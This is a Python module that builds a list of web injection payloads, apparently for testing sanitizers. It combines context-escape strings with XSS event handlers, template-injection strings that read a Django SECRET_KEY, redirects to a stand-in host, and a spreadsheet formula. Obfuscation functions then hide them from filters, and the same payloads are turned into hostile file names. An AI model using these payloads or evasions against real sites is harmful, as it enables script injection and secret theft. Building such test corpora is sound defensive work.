"""Strings that try to become part of a page: ways out of where text stands, what runs there, and ways to hide both."""

import base64
import html
from itertools import product
from urllib.parse import quote

RUN = "alert(1)"
# Ways out of the places in a page where text stands: plain text, attributes, scripts, styles, comments, links, templates.
EXITS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "</svg>",
    '" autofocus ',
    "\\'-",
    "`-",
    "]]>",
)
# What runs once it is out.
DEEDS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><script>{RUN}</script>",
    f"<input autofocus onfocus={RUN}>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    "<style>@import'//x.invalid/a.css'</style>",
    "<base href='//x.invalid/'>",
    "<meta http-equiv=refresh content='0;url=//x.invalid/'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    f"javascript:{RUN}",
    f'=HYPERLINK("javascript:{RUN}")',
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _cases(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


def _halves(text: str) -> str:
    return f"<scr{text}ipt>{RUN}</scr{text}ipt>" if "<script" in text else f"\u202e{text}\u2066"


DISGUISES = (
    lambda text: text,
    html.escape,
    _entities,
    quote,
    lambda text: quote(quote(text)),
    _cases,
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace(" ", "/").replace("<", "<\u200b"),
    lambda text: base64.b64encode(text.encode()).decode(),
    _halves,
)


def injections() -> list[str]:
    """Every way out with every deed, plainly; every deed in every disguise; all different.

    >>> len(injections()) >= 500
    True
    """
    plain = [way + deed for way, deed in product(EXITS, DEEDS)]
    hidden = [disguise(way + deed) for disguise, way, deed in product(DISGUISES, ('">', "</textarea>"), DEEDS)]
    return list(dict.fromkeys(" ".join(text.split()) for text in [*plain, *hidden]))


def file_names() -> list[str]:
    """Names of files that try the same."""
    found = [text.replace("/", "⁄").replace("\0", "") for text in injections()]
    return [*dict.fromkeys(f"{text[:120]}.jpg" for text in found)]
